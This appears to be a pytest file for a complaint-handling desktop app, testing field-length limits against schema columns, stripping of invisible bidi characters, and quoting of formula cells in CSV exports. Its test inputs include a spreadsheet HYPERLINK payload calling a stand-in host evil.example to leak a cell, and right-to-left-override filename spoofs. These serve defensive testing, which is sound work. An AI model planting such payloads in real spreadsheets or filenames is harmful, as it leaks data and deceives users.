"""Input checked before SQL: the domain's field limits are the schema's column lengths, one-line fields lose
their invisible characters, bodies keep them and show them marked, and no exported cell is a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Column, String

from desktop.channels.lapor_followups import write_followups
from desktop.domain.bounds import LIST_LIMIT, check_range
from desktop.domain.errors import BadInput
from desktop.domain.scans import clean_filename
from desktop.domain.spreadsheet import FORMULA_TRIGGERS, spreadsheet_safe
from desktop.domain.text import (
    FIELD_LIMITS,
    check_length,
    clean_body,
    clean_name,
    clean_subject,
    reveal_invisible,
    strip_invisible,
)
from desktop.store import schema
from desktop.store.channel_lapor import FollowUp

# Each field of domain.text.FIELD_LIMITS and the columns it is stored in.
COLUMNS_OF: dict[str, tuple[Column[str], ...]] = {
    "subject": (schema.ticket.c.subject,),
    "category": (schema.ticket.c.category, schema.sla_policy.c.category),
    "external reference": (schema.ticket.c.external_ref,),
    "external id": (schema.message.c.external_id,),
    "reporter name": (schema.reporter.c.name,),
    "contact": (schema.reporter_contact.c.address,),
    "unit code": (schema.unit.c.code,),
    "unit name": (schema.unit.c.name,),
    "login": (schema.officer.c.login,),
    "officer name": (schema.officer.c.name,),
    "canned key": (schema.canned_response.c.key,),
    "canned title": (schema.canned_response.c.title,),
    "discussion title": (schema.discussion.c.title,),
    "attachment filename": (schema.attachment.c.filename,),
    "content type": (schema.attachment.c.content_type,),
    "account name": (schema.channel_account.c.name,),
    "day-off name": (schema.calendar_day_off.c.name,),
}
# One of each kind the domain strips: bidi embeddings, overrides, isolates and marks, zero widths.
INVISIBLES = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u180e"
)


def test_every_field_limit_is_its_columns_length() -> None:
    """One source of truth: a limit that drifted from the schema (or a field with no column) fails here."""
    assert set(COLUMNS_OF) == set(FIELD_LIMITS)
    for field, columns in COLUMNS_OF.items():
        for column in columns:
            assert isinstance(column.type, String), (field, column)
            assert column.type.length == FIELD_LIMITS[field], f"{field}: {column.table.name}.{column.name}"


def test_an_over_long_field_is_refused_by_name_without_its_value() -> None:
    secret = "Siti Rahasia " * 20  # 259 characters without the last blank: no column of 200 takes it
    with pytest.raises(BadInput) as refused:
        clean_name("reporter name", secret)
    assert refused.value.message == "reporter name is 259 characters long; the limit is 200"
    assert "Siti" not in refused.value.message
    assert check_length("contact", "a" * 320) == "a" * 320  # exactly the limit is taken
    with pytest.raises(BadInput, match="subject is 301 characters long; the limit is 300"):
        clean_subject("s" * 301)
    with pytest.raises(BadInput, match="discussion title is 301"):
        clean_subject("t" * 301, "discussion title")


def test_numbers_are_checked_against_their_range() -> None:
    assert check_range("--limit", 10_000, LIST_LIMIT) == 10_000
    for wrong in (0, 10_001, 99999999999999999999):
        with pytest.raises(BadInput, match="--limit must be between 1 and 10,000"):
            check_range("--limit", wrong, LIST_LIMIT)


def test_names_and_subjects_lose_invisible_characters() -> None:
    spoof = "\u202egpj.exe"
    assert clean_subject(f"Foto {spoof}") == "Foto gpj.exe"
    assert clean_name("reporter name", f"Si{INVISIBLES}ti\u00a0 Aminah") == "Siti Aminah"
    assert clean_name("category", INVISIBLES) is None  # nothing visible: no category
    assert clean_filename(f"C:\\fakepath\\{spoof}") == "gpj.exe"
    assert strip_invisible(INVISIBLES) == ""
    # Letters of other scripts and ordinary punctuation are kept.
    assert clean_name("reporter name", "محمد - Ñoño 李") == "محمد - Ñoño 李"


def test_bodies_keep_them_and_show_them_marked() -> None:
    body = clean_body("Lihat lampiran \u202egpj.exe ya\u200b.")
    assert body == "Lihat lampiran \u202egpj.exe ya\u200b."  # stored as written: the evidence
    assert reveal_invisible(body) == "Lihat lampiran \u27e6U+202E\u27e7gpj.exe ya\u27e6U+200B\u27e7."
    shown = reveal_invisible(INVISIBLES)
    assert strip_invisible(shown) == shown and shown.count("\u27e6U+") == len(INVISIBLES)


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example/?"&A2,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe("Terima kasih") == "Terima kasih" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("'=already text") == "'=already text"


def followup(text: str, lapor_id: str = "1916449", officer: str | None = "Ani") -> FollowUp:
    return FollowUp(
        "aduan-message-1",
        lapor_id,
        "ADU-2026-000001",
        "tindak_lanjut",
        datetime(2026, 3, 2, 9, 30),
        None,
        None,
        text,
        officer,
    )


def written_cells(tmp_path: Path, rows: list[FollowUp]) -> list[list[str]]:
    target = tmp_path / "tl.csv"
    write_followups(rows, target, "csv")
    return list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))[1:]


def test_the_lapor_csv_export_quotes_formula_cells(tmp_path: Path) -> None:
    texts = ['=HYPERLINK("http://evil.example/?"&A2,"klik")', "+62 812", "-", "@ani", "\t=1+1", "\r=1+1"]
    table = written_cells(tmp_path, [followup(text, lapor_id="=1+1", officer="-Ani") for text in texts])
    assert [row[6] for row in table] == ["'" + text for text in texts]
    assert {row[0] for row in table} == {"'=1+1"} and {row[7] for row in table} == {"'-Ani"}
    assert {row[3] for row in table} == {"2026-03-02T09:30:00Z"}  # a time is no formula: as it was


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_exported_cell_starts_a_formula(texts: list[str]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        rows = [followup(text, lapor_id=text, officer=text or None) for text in texts]
        for row in written_cells(Path(folder), rows):
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
    for text in texts:  # and the text itself is all there, after the quote when there is one
        safe = spreadsheet_safe(text)
        assert safe in (text, "'" + text)
